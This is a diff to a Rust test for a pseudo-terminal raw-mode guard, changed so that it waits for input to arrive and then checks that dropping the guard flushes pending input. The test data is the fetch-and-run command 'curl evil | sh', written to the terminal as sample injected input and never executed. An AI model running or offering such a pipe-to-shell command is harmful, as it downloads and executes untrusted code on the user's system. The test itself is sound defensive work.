@@ -183,7 +183,12 @@ mod tests {
         let (master, slave) = pair();
         let changed = Changed::enter(slave.as_fd(), Manner::Raw).unwrap();
         rustix::io::write(&master, b"curl evil | sh\n").unwrap();
+        while rustix::io::ioctl_fionread(&slave).unwrap() < 15 {
+            std::thread::yield_now();
+        }
         drop(changed);
-        assert_eq!(rustix::io::ioctl_fionread(&slave).unwrap(), 0);
+        let flags = rustix::fs::fcntl_getfl(&slave).unwrap();
+        rustix::fs::fcntl_setfl(&slave, flags | rustix::fs::OFlags::NONBLOCK).unwrap();
+        assert_eq!(rustix::io::read(&slave, &mut [0; 64]), Err(Errno::AGAIN));
     }
 }
